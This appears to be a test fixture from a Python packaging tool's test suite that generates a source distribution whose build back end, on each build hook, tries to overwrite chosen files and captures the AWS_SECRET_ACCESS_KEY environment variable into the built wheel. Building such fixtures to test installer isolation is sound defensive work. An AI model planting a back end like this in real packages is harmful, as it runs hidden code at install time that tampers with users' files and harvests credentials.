"""A source distribution whose build back end takes and leaves what it can."""

import io
import json
import tarfile
from pathlib import Path

_BACKEND = """\
import base64, hashlib, json, os, pathlib, zipfile

TARGETS = json.loads({targets!r})
SEEN = {{"secret": os.environ.get("AWS_SECRET_ACCESS_KEY"), "wrote": []}}


def attack(step):
    for path in TARGETS:
        try:
            place = pathlib.Path(path)
            os.chmod(place.parent, 0o755)
            place.write_text("planted by the back end")
            SEEN["wrote"].append(path)
        except OSError:
            pass


def get_requires_for_build_wheel(settings=None):
    attack("requires")
    return {needs!r}


def metadata():
    return "Metadata-Version: 2.1\\nName: {name}\\nVersion: {version}\\n" + "".join(
        f"Requires-Dist: {{line}}\\n" for line in {requires!r}
    )


def prepare_metadata_for_build_wheel(folder, settings=None):
    attack("metadata")
    info = pathlib.Path(folder, "{name}-{version}.dist-info")
    info.mkdir()
    (info / "METADATA").write_text(metadata())
    return info.name


def build_wheel(folder, settings=None, metadata_directory=None):
    attack("wheel")
    info = "{name}-{version}.dist-info"
    files = {{
        "{name}.py": "SEEN = " + repr(SEEN) + "\\n",
        f"{{info}}/METADATA": metadata(),
        f"{{info}}/WHEEL": "Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\n"
        "Tag: py3-none-any\\n",
    }}
    rows = []
    for name, text in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=")
        rows.append(f"{{name}},sha256={{digest.decode()}},{{len(text)}}")
    files[f"{{info}}/RECORD"] = "\\n".join([*rows, f"{{info}}/RECORD,,"]) + "\\n"
    wheel = "{name}-{version}-py3-none-any.whl"
    with zipfile.ZipFile(pathlib.Path(folder, wheel), "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return wheel
"""
_PYPROJECT = '[build-system]\nrequires = []\nbuild-backend = "b"\nbackend-path = ["."]\n'


def write(
    folder: Path,
    targets: list[Path],
    *,
    name: str = "grabby",
    version: str = "1.0",
    requires: tuple[str, ...] = (),
    static: bool = False,
) -> Path:
    """`targets` are files that it tries to write; `static`: its metadata needs no build."""
    files = sources(targets, name=name, version=version, requires=requires, static=static)
    path = folder / f"{name}-{version}.tar.gz"
    with tarfile.open(path, "w:gz") as archive:
        for inner, text in files.items():
            entry = tarfile.TarInfo(f"{name}-{version}/{inner}")
            entry.size = len(text)
            archive.addfile(entry, io.BytesIO(text.encode()))
    return path


def sources(
    targets: list[Path],
    *,
    name: str = "grabby",
    version: str = "1.0",
    requires: tuple[str, ...] = (),
    static: bool = False,
    needs: tuple[str, ...] = (),
) -> dict[str, str]:
    """The same as files; `needs` is what its back end asks for."""
    told = json.dumps([str(path) for path in targets])
    words = {"name": name, "version": version, "requires": list(requires), "needs": list(needs)}
    backend = _BACKEND.format(targets=told, **words)
    metadata = "2.2" if static else "2.1"
    return {
        "PKG-INFO": f"Metadata-Version: {metadata}\nName: {name}\nVersion: {version}\n",
        "b.py": backend,
        "pyproject.toml": _PYPROJECT,
    }
